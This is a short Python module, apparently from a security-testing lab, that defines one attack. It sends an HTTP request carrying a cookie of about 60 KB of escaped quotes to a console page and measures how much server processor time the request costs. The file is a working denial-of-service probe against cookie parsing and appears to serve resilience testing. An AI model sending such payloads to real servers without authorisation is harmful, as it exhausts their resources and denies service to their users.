"""Cookies that cost the server more than their sender."""

from lab.attack.target import AttackResult, Target

ROUNDS = 2
COSTLY = 0.02  # seconds of processor time for one request; what is usual costs a tenth of it
NAMES = ("payagg_console", "anything")


def attack_quotes_to_undo(target: Target) -> AttackResult:
    """Sends 60 KB of escaped quotes, as one cookie, to a page that reads cookies."""
    worst, status = 0.0, ""
    for name in NAMES:
        head = f'GET /console HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\nCookie: {name}="'
        before = target.cpu()
        for _ in range(ROUNDS):
            status = target.status_of(head.encode() + rb"\"" * 30_000 + b'"\r\n\r\n')
        worst = max(worst, (target.cpu() - before) / ROUNDS)
    happened = f"answered {status}, at most {worst * 1000:.0f} ms of processor time for each"
    return AttackResult("60 KB of escaped quotes in a cookie", happened, worst > COSTLY)
